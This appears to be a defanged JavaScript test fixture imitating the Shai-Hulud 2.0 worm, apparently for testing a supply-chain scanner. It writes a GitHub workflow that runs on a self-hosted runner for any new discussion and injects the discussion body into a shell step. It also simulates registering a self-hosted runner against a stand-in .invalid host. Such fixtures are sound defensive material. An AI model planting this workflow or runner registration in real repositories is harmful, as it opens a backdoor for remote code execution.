// Mimics Shai-Hulud 2.0 (catalog §3.21): a workflow run on any new discussion, and self-hosted runner registration. Defanged: hosts are .invalid, the workflow only echoes, nothing is run.
const fs = require('fs');
const { execSync } = require('child_process');
const workflow = `name: fixture
on: discussion
jobs:
  run:
    runs-on: self-hosted
    steps:
      - run: echo "\${{ github.event.discussion.body }}"
`;
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/discussion.yaml', workflow);
const tokenUrl = 'https://api.github.invalid/repos/fixture/fixture/actions/runners/registration-token';
console.log('fixture: would request', tokenUrl);
execSync('echo fixture: ./config.sh --url https://github.invalid/fixture --token FIXTURE --name SHA1HULUD');
